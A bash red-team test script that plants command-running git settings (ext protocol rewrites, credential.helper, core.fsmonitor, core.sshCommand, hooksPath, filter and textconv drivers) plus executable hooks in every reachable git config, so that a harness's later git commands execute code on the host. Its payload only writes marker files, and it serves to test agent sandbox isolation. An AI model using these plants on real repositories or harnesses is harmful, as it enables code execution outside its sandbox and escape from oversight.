#!/bin/bash
# Red team (test/security): plants in every git file the agent can find a command that
# writes a marker file on the host, so that a later git command of the harness (fetch,
# ls-remote, lease push, commit, push) would run it. MARKERS is a host directory.
#   bash git-plant.sh MARKERS CLONE_DIR
markers=$1 clone=$2
out="$PWD/loot"
mkdir -p "$out"
plant() { # plant CONFIG_FILE: every config key that runs a command
  local file=$1 tag=$2
  {
    git config --file "$file" protocol.ext.allow always
    git config --file "$file" "url.ext::sh -c touch% $markers/ext-$tag% >&2.insteadOf" http://
    git config --file "$file" credential.helper "!touch $markers/credential-$tag; echo"
    git config --file "$file" core.fsmonitor "touch $markers/fsmonitor-$tag; echo"
    git config --file "$file" core.hooksPath "$PWD/.planted-hooks"
    git config --file "$file" core.sshCommand "touch $markers/ssh-$tag; ssh"
    git config --file "$file" filter.pwn.clean "touch $markers/filter-clean-$tag; cat"
    git config --file "$file" filter.pwn.smudge "touch $markers/filter-smudge-$tag; cat"
    git config --file "$file" diff.pwn.textconv "touch $markers/textconv-$tag; cat"
  } >> "$out/plant-$tag.txt" 2>&1
  echo "planted $file: $?" >> "$out/plant-$tag.txt"
}
# The agent's own git works: it may commit in its own git dir (before the plants break it).
echo "planted by the agent" > planted.txt
git add -A >> "$out/git.txt" 2>&1
git commit -q -m "agent commit" >> "$out/git.txt" 2>&1
echo "agent commit: $?" >> "$out/git.txt"
common=$(git rev-parse --git-common-dir 2>>"$out/git.txt")
echo "git-common-dir: $common" >> "$out/git.txt"
plant "$common/config" own
plant "$clone/config" clone
plant "$(git rev-parse --git-dir)/config.worktree" worktree
mkdir -p .planted-hooks "$common/hooks" "$clone/hooks" "$clone/info" 2>>"$out/git.txt"
for hook in pre-commit pre-push post-checkout reference-transaction; do
  for dir in .planted-hooks "$common/hooks" "$clone/hooks"; do
    printf '#!/bin/sh\ntouch %s/hook-%s\n' "$markers" "$hook" > "$dir/$hook" 2>>"$out/git.txt" && chmod +x "$dir/$hook"
  done
done
echo '* filter=pwn diff=pwn' > .gitattributes
echo '* filter=pwn diff=pwn' > "$common/info/attributes" 2>>"$out/git.txt"
echo '* filter=pwn diff=pwn' > "$clone/info/attributes" 2>>"$out/git.txt"
echo done > "$out/ran"
